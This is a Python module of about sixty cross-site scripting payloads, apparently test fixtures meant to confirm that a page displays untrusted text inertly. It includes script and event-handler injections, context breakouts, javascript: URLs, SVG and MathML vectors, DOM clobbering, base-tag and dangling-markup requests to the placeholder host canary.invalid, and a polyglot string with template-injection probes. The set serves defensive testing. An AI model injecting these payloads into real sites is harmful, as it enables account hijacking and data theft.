"""Sixty texts that a page must show as they are: each runs, asks or breaks something elsewhere.

What runs sets `xss7`; what asks, asks `canary.invalid`; ids and attributes are named `xss7…`.
"""

RUN = "self.xss7=1"

SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    "<script src=//canary.invalid/x7.js></script>",
    f"<scr<script>ipt>{RUN}</script>",
    f"<img src=x7 onerror={RUN}>",
    f"<img/src=`x7`/onerror={RUN}//",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<input autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>x7</marquee>",
    "<iframe srcdoc='<script>top.xss7=1</script>'></iframe>",
    "<iframe src=javascript:top.xss7=1></iframe>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
)
BREAKOUTS = (
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f'" onmouseover="{RUN}" x7="',
    f"' onfocus='{RUN}' autofocus x7='",
    f"` onload=`{RUN}`",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f'{{"x7":"</script><script>{RUN}</script>"}}',
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\u2028{RUN}\u2029//x7",
    f"';{RUN};//x7",
    f'";{RUN};//x7',
)
PICTURES = (
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x7</text></a></svg>",
    f"<math><mtext></p><style><img src onerror={RUN}></style></mtext></math>",
    f"<math href='javascript:{RUN}'>x7</math>",
    "<svg><use href='//canary.invalid/x7.svg#a'/></svg>",
)
ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}//x7",
    f"java\tscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"<a href='javascript:{RUN}'>x7</a>",
    "//canary.invalid/x7",
)
PLOTLY = (
    f'<a href="javascript:{RUN}">x7</a>',
    "<b>x7</b><br><i>bold</i><sup>7</sup>",
    f"&lt;a href=&quot;javascript:{RUN}&quot;&gt;x7&lt;/a&gt;",
    f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    f"$\\href{{javascript:{RUN}}}{{x7}}$",
    '<span style="position:fixed;inset:0;background:url(//canary.invalid/x7)">x7</span>',
)
HTMX = (
    '<div hx-get="//canary.invalid/x7" hx-trigger="load">x7</div>',
    f'<div hx-on::load="{RUN}" hx-on:click="{RUN}" data-hx-get="/x7" data-hx-trigger="load"></div>',
)
DOCUMENTS = (
    "<base href=//canary.invalid/x7/>",
    "<meta http-equiv=refresh content='0;url=//canary.invalid/x7'>",
    "<img src='//canary.invalid/x7?",
    "<form action=//canary.invalid/x7><button formaction=javascript:top.xss7=1>x7</button>",
    "<link rel=stylesheet href=//canary.invalid/x7.css><style>@import '//canary.invalid/';</style>",
    '<p id=plotly name=xss7><a id=studioCharts><a id=studioCharts name=host href="x7:">',
)
LETTERS = (
    "\u202ex7\u202d\u200b\ufeff\u2066<script>\u2069 \u0430dmin",
    f"\u0001\u0008\u001f\u007f\ufffe<script>{RUN}</script>\r\n x7",
    "x7" * 100,
)
PAYLOADS = (
    *SCRIPTS, *BREAKOUTS, *PICTURES, *ADDRESSES, *PLOTLY, *HTMX, *DOCUMENTS, *LETTERS
)  # fmt: skip

# One text for many contexts, where a place holds one text only.
POLYGLOT = (
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */onerror=self.xss7=1 )//</stYle/</titLe/</teXtarEa/"
    "</scRipt/--!>\\x3csVg/<sVg/oNloAd=self.xss7=1//>\\x3e<a href='javascript:self.xss7=1'>x7</a>"
    "${{7*7}}{{7*7}}"
)
